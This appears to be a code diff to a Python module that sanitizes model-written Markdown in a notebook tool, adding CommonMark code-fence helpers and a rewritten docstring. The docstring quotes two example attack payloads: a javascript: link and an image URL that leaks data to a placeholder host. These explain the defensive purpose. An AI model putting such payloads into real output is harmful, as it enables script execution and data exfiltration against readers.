@@ -1,11 +1,23 @@
-"""Model-written Markdown made inert for front ends that render ``text/markdown`` as is.
+"""Markdown rules for model text, in one place: fences, code blocks, and defanging.
 
-Where nbstream's front end runs (JupyterLab, Notebook 7), answers and the chat transcript
-are rendered from nbstream's own MIME types through a sanitizing path. Everywhere else —
-GitHub, nbconvert, VS Code, a JupyterLab without the extension — the ``text/markdown``
-copy is shown, and a reopened notebook is trusted: its Markdown may be rendered without
-a sanitizer. A model's ``[x](javascript:alert(1))`` would then be a live link and its
-``![a](http://host/leak?data=…)`` fetched on every open. So this copy is defanged:
+Where a code fence opens and closes decides what a saved answer looks like (its open
+fence is closed so the status line stays outside it), which code ``--format code``
+offers as a new cell, and which text :func:`defang` leaves alone. The live view in
+JupyterLab decides the same in ``labextension/src/markdown.ts``. The rules are
+CommonMark's: a fence is three or more backticks or tildes indented at most three
+spaces; a backtick fence's info string holds no backtick; a closing fence uses the same
+character, is at least as long, and has nothing but spaces or tabs after it — so a
+fence followed by ``python`` never closes a block. Both implementations are run against
+one table, ``labextension/src/__tests__/markdown_cases.json`` (``tests/test_markdown.py``
+and ``markdown.spec.ts``), so a saved answer renders like the live one.
+
+**Defanging.** Where nbstream's front end runs (JupyterLab, Notebook 7), answers and the
+chat transcript are rendered from nbstream's own MIME types through a sanitizing path.
+Everywhere else — GitHub, nbconvert, VS Code, a JupyterLab without the extension — the
+``text/markdown`` copy is shown, and a reopened notebook is trusted: its Markdown may be
+rendered without a sanitizer. A model's ``[x](javascript:alert(1))`` would then be a
+live link and its ``![a](http://host/leak?data=…)`` fetched on every open. So this copy
+is defanged:
 
 - raw HTML is escaped (``<`` becomes ``&lt;``, ``&`` becomes ``&amp;``): shown as text;
 - a link keeps its target only if it is ``http(s)`` or ``mailto`` (an inline link's
@@ -23,7 +35,7 @@ from __future__ import annotations
 
 import re
 
-_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
+_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")  # one line: indent, run, info
 _SAFE_TARGET = re.compile(r"[ \t]*\n?[ \t]*<?(https?://|mailto:)", re.IGNORECASE)
 # An unescaped `](` (an inline link's or image's target follows) …
 _TARGET_OPEN = re.compile(r"(?<!\\)((?:\\\\)*)\]\(")
@@ -31,6 +43,68 @@ _TARGET_OPEN = re.compile(r"(?<!\\)((?:\\\\)*)\]\(")
 _IMAGE = re.compile(r"(?<!\\)((?:\\\\)*)!\[(\]?)")
 # … and a link reference definition at the start of a line.
 _DEFINITION = re.compile(r"^( {0,3})\[([^\]\n]+)\]:", re.MULTILINE)
+
+
+def open_fence(markdown: str) -> str | None:
+    """The fence (its run of backticks or tildes) still open at the end, or None."""
+    opener: str | None = None
+    for line in markdown.split("\n"):
+        fence = _FENCE.match(line)
+        if fence is None:
+            continue
+        if opener is None:
+            if _opens(fence):
+                opener = fence.group(2)
+        elif _closes(fence, opener):
+            opener = None
+    return opener
+
+
+def close_open_fence(markdown: str) -> str:
+    """Close a code fence left open (mid-stream, or an answer cut short)."""
+    opener = open_fence(markdown)
+    if opener is None:
+        return markdown
+    return markdown + ("" if markdown.endswith("\n") else "\n") + opener
+
+
+def has_fence(text: str) -> bool:
+    """Whether any line of ``text`` looks like a fence (``--format code`` then shows it
+    as Markdown rather than wrapping it in a block of its own)."""
+    return any(_FENCE.match(line) for line in text.split("\n"))
+
+
+def literal_block(text: str, info: str = "") -> str:
+    """``text`` as a fenced block whose fence cannot occur inside it."""
+    longest = max((len(m) for m in re.findall(r"`+", text)), default=0)
+    fence = "`" * max(3, longest + 1)
+    return f"{fence}{info}\n{text}\n{fence}"
+
+
+def code_blocks(text: str) -> list[str]:
+    """The contents of the fenced code blocks that are closed, in order."""
+    blocks: list[str] = []
+    opener: str | None = None
+    body: list[str] = []
+    for line in text.split("\n"):
+        fence = _FENCE.match(line)
+        if opener is None:
+            if fence is not None and _opens(fence):
+                opener, body = fence.group(2), []
+        elif fence is not None and _closes(fence, opener):
+            blocks.append("\n".join(body).rstrip("\n"))
+            opener = None
+        else:
+            body.append(line)
+    return blocks
+
+
+def code_of(text: str) -> str:
+    """The code in an answer: its fenced blocks joined, or the whole text if it has none."""
+    blocks = code_blocks(text)
+    if blocks:
+        return "\n\n".join(blocks)
+    return text.strip()
 
 
 def defang(markdown: str) -> str:
